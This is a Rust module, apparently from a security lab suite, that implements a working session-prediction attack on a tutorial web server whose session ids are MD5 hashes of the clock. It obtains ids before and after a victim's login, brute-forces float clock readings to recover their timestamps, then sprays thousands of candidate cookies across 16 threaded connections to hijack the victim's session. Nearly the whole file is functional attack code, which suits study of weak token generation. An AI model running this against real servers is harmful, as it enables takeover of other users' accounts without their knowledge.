//! Guesses the session id of another user from the clock.
//!
//! The tutorial's id is `md5(str(time.time()))`. A hash hides its input only if the input cannot be
//! guessed, and this one can: a second has 4,194,304 readings of the clock as a float. So:
//!
//! ```text
//!   attacker    gets id A                          time -->
//!   user               gets an id, and logs in
//!   attacker                  gets id B
//!               |------|------|
//!               A      ?      B
//! ```
//! The `Date` of the response gives the second of A; the hash of each reading in that second is
//! compared with A. The same, from there on, for B. The user's id is the hash of a reading between
//! them, of which there are a few thousand: each is tried at the server.
//!
//! A real attacker comes by again and again until a user logs in between two visits. Here the
//! attack plays the user, too, and need not wait.

use std::collections::{HashMap, HashSet};
use std::io;
use std::ops::Range;
use std::sync::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;
use std::time::{Duration, Instant, UNIX_EPOCH};

use dustdevil::http::date;
use md5::{Digest, Md5};

use super::Outcome;
use crate::client::{Connection, Request, Response};
use crate::target::Target;
use crate::victim::tutorial::python_str;

/// Number of moments. In some, the clients are served in another order than they came, or too late.
const MOMENTS: usize = 5;

/// Time between two of the clients.
const PAUSE: Duration = Duration::from_micros(300);

/// Maximum number of ids that are tried in one moment.
const MAX_TRIES: u64 = 100_000;

/// Number of seconds, from the first Date on, in which all ids of the attack are.
const SEARCHED_SECONDS: u64 = 2;

/// Number of connections on which ids are tried.
const CONNECTIONS: usize = 16;

/// Number of requests that are sent on a connection before the first response is read.
const BATCH: usize = 32;

/// The first request of a client that brings a session id: a visit of the login form, or if the
/// server gives ids to logged-in users only, the login.
struct First {
    cookies: String,
    form: Option<String>,
}

/// What a client has got: its session cookie, and the page.
struct Got {
    name: String,
    id: String,
    /// The Unix time of the Date field.
    second: u64,
    page: Response,
}

/// A user that gets an id between two of the attacker.
struct Moment {
    before: Got,
    user: Got,
    after: Got,
}

pub(super) fn make(target: &Target) -> io::Result<Outcome> {
    let mut clients =
        [Connection::open(target)?, Connection::open(target)?, Connection::open(target)?];
    println!("The attacker gets an id, a user logs in, and the attacker gets another id.");
    let mut moments = Vec::new();
    for _ in 0..MOMENTS {
        let Some(moment) = moment(&mut clients)? else {
            println!("Neither a visit of /login nor a login sets a cookie with an id.");
            return Ok(Outcome::NoAnswer);
        };
        moments.push(moment);
    }
    let began = Instant::now();
    let Some(first) = find_first(&moments[0].before) else {
        let Moment { before, after, .. } = &moments[0];
        tell(before, after);
        println!("None of the {} readings of the clock in two seconds has", 2 << 22);
        println!("the first id as its MD5: it does not come from the clock.");
        println!("({:.1} s)", seconds(began));
        return Ok(Outcome::Held);
    };
    println!("The attacker does so {MOMENTS} times, and begins with the shortest moment.");
    let mut known = find_all(first, &moments);
    known.sort_by_key(|(_, readings)| readings.end - readings.start);
    println!("Found in {:.1} s: its ids are hashes of the clock.\n", seconds(began));
    for (moment, readings) in known {
        log_in(&mut clients[1], &moment.user)?;
        tell(&moment.before, &moment.after);
        println!("They are:");
        for bits in [readings.start, readings.end] {
            let reading = f64::from_bits(bits);
            let id = hex::encode(hash(reading));
            println!("  md5(\"{}\") = {id}", python_str(reading));
        }
        if try_ids(target, &moment.before.name, &(readings.start + 1..readings.end))? {
            return Ok(Outcome::Broken);
        }
    }
    println!("No id of the user was found, but all ids are hashes of the clock.");
    Ok(Outcome::Broken)
}

/// Finds the readings of the attacker's ids in all moments, from the first one on. Returns the
/// moments of which both are known, in the right order and close together.
fn find_all(first: f64, moments: &[Moment]) -> Vec<(&Moment, Range<u64>)> {
    let ids = moments.iter().flat_map(|moment| [&moment.before.id, &moment.after.id]);
    let mut wanted: HashSet<[u8; 16]> = ids.filter_map(|id| decode(id)).collect();
    let mut found = HashMap::new();
    let last = f64_of(moments[0].before.second + SEARCHED_SECONDS).to_bits();
    // Some clients may have been served earlier than the first one.
    let start = (first - 0.01).to_bits();
    for bits in start..last {
        let hash = hash(f64::from_bits(bits));
        if wanted.remove(&hash) {
            found.insert(hash, bits);
        }
        if wanted.is_empty() {
            break;
        }
    }
    let readings = |moment: &Moment| {
        let before = *found.get(&decode(&moment.before.id)?)?;
        let after = *found.get(&decode(&moment.after.id)?)?;
        let is_short = (1..MAX_TRIES).contains(&after.saturating_sub(before));
        is_short.then_some(before..after)
    };
    moments.iter().filter_map(|moment| Some((moment, readings(moment)?))).collect()
}

/// Lets the attacker, the user and the attacker get an id, at once after another. Returns `None`
/// if the server gives none.
fn moment(clients: &mut [Connection; 3]) -> io::Result<Option<Moment>> {
    let mut firsts = Vec::new();
    for client in clients.iter_mut() {
        firsts.push(prepare(client)?);
    }
    for (client, first) in clients.iter_mut().zip(&firsts) {
        let First { cookies, form } = first;
        client.send(&[Request { path: "/login", cookies, form: form.as_deref() }])?;
        let sent = Instant::now();
        while sent.elapsed() < PAUSE {
            std::hint::spin_loop();
        }
    }
    let mut got = Vec::new();
    for client in clients {
        let Some(one) = Got::from(client.read()?) else { return Ok(None) };
        got.push(one);
    }
    let got: Option<[Got; 3]> = got.try_into().ok();
    Ok(got.map(|[before, user, after]| Moment { before, user, after }))
}

/// Returns the request that will bring an id. It is tried whether a visit alone does.
fn prepare(client: &mut Connection) -> io::Result<First> {
    let page = client.request(Request { path: "/login", ..Request::default() })?;
    Ok(match session_cookie(&page) {
        Some(_) => First { cookies: String::new(), form: None },
        None => First { cookies: cookies_of(&page), form: Some(form_of(&page)) },
    })
}

impl Got {
    fn from(page: Response) -> Option<Got> {
        let (name, id) = session_cookie(&page)?;
        let since = page.field("Date").and_then(date::parse)?.duration_since(UNIX_EPOCH);
        let second = since.unwrap_or_default().as_secs();
        Some(Got { name, id, second, page })
    }
}

/// Logs the user in with the page that it got, if that was the form.
fn log_in(client: &mut Connection, got: &Got) -> io::Result<()> {
    if got.page.form_token().is_some() {
        let (cookies, form) = (cookies_of(&got.page), form_of(&got.page));
        client.request(Request { path: "/login", cookies: &cookies, form: Some(&form) })?;
    }
    Ok(())
}

fn cookies_of(page: &Response) -> String {
    let pairs = page.cookies().map(|(name, value)| format!("{name}={value}"));
    pairs.collect::<Vec<_>>().join("; ")
}

/// Returns the login form of a page, filled in.
fn form_of(page: &Response) -> String {
    let token = page.form_token().unwrap_or_default();
    let (user, password) = (setting("LAB_USER", "admin"), setting("LAB_PASSWORD", "123"));
    format!("username={user}&password={password}&_xsrf={token}")
}

/// Returns the session cookie that a response sets.
fn session_cookie(page: &Response) -> Option<(String, String)> {
    let wanted = setting("LAB_COOKIE", "session_id");
    let (name, value) = page.cookies().find(|(name, _)| *name == wanted)?;
    Some((name.to_owned(), value.to_owned()))
}

/// Returns what the environment says about a server of the reader, as `lib.sh` does.
fn setting(name: &str, default: &str) -> String {
    std::env::var(name).unwrap_or_else(|_| default.to_owned())
}

/// Prints what the attacker has got.
fn tell(before: &Got, after: &Got) {
    let date = date::format(UNIX_EPOCH + Duration::from_secs(before.second));
    println!("What the attacker has got:");
    println!("  Date: {date}");
    println!("  Set-Cookie: {}={}", before.name, before.id);
    println!("  Set-Cookie: {}={}\n", after.name, after.id);
}

/// Returns the reading of the clock whose hash is the first id. The id is a little older than the
/// Date, so it may be of the second before.
fn find_first(got: &Got) -> Option<f64> {
    let seconds = [got.second, got.second.saturating_sub(1)];
    seconds.into_iter().find_map(|second| find_in_second(second, &got.id))
}

/// Searches a second with two threads.
fn find_in_second(second: u64, id: &str) -> Option<f64> {
    let (start, end) = (f64_of(second).to_bits(), f64_of(second + 1).to_bits());
    let middle = u64::midpoint(start, end);
    thread::scope(|scope| {
        let first_half = scope.spawn(|| find_between(start..middle, id));
        let second_half = find_between(middle..end, id);
        first_half.join().ok().flatten().or(second_half)
    })
}

/// Returns the reading whose hash is `id`. The bits of positive floats are in the order of the
/// floats, so the next float is the next number.
fn find_between(bits: Range<u64>, id: &str) -> Option<f64> {
    let id = decode(id)?;
    bits.map(f64::from_bits).find(|reading| hash(*reading) == id)
}

/// Returns the bytes of an id of 32 hex digits.
fn decode(id: &str) -> Option<[u8; 16]> {
    hex::decode(id).ok()?.try_into().ok()
}

fn hash(reading: f64) -> [u8; 16] {
    Md5::digest(python_str(reading)).into()
}

#[allow(clippy::cast_precision_loss)]
fn f64_of(second: u64) -> f64 {
    second as f64
}

fn seconds(began: Instant) -> f64 {
    began.elapsed().as_secs_f64()
}

/// Tries the ids of all readings between the two of the attacker, on several connections. Returns
/// `true` if one opens the main page.
fn try_ids(target: &Target, name: &str, between: &Range<u64>) -> io::Result<bool> {
    let id = |bits| format!("{name}={}", hex::encode(hash(f64::from_bits(bits))));
    let cookies: Vec<String> = between.clone().map(id).collect();
    let batches: Vec<&[String]> = cookies.chunks(BATCH).collect();
    println!("\nThe user's is between them. {} ids are tried at /main:", cookies.len());
    let (began, next, found) = (Instant::now(), AtomicUsize::new(0), Mutex::new(None));
    let worker = || -> io::Result<()> {
        let mut connection = Connection::open(target)?;
        while let Some(batch) = batches.get(next.fetch_add(1, Ordering::Relaxed)) {
            if let Some(hit) = try_batch(&mut connection, batch)? {
                next.store(batches.len(), Ordering::Relaxed);
                *found.lock().expect("no worker panics") = Some(hit);
            }
        }
        Ok(())
    };
    thread::scope(|scope| {
        let workers: Vec<_> = (0..CONNECTIONS).map(|_| scope.spawn(worker)).collect();
        workers.into_iter().try_for_each(|worker| worker.join().expect("no worker panics"))
    })?;
    let found = found.into_inner().expect("no worker panics");
    match found {
        None => println!("  none opens the page ({:.1} s).\n", seconds(began)),
        Some((cookie, page)) => {
            println!("  after {:.1} s, this one opens the page:", seconds(began));
            println!(
                "  > GET /main HTTP/1.1\n  > Cookie: {cookie}\n  < HTTP/1.1 200 OK\n  < ... {page}"
            );
            println!(
                "\nThis is the user's session. The attacker has never seen its cookie."
            );
            return Ok(true);
        }
    }
    Ok(false)
}

/// Sends a request with each of the cookies, and returns the cookie that gets the main page, and
/// the line of the page that says so.
fn try_batch(
    connection: &mut Connection,
    cookies: &[String],
) -> io::Result<Option<(String, String)>> {
    let requests: Vec<Request<'_>> = cookies
        .iter()
        .map(|cookies| Request { path: "/main", cookies, form: None })
        .collect();
    connection.send(&requests)?;
    let (mut found, text) = (None, setting("LAB_MAIN", "this is main page"));
    for cookie in cookies {
        let response = connection.read()?;
        let mut lines = response.content.lines().map(str::trim);
        if let Some(line) = lines.find(|line| line.contains(&text)) {
            found = Some((cookie.clone(), line.to_owned()));
        }
    }
    Ok(found)
}
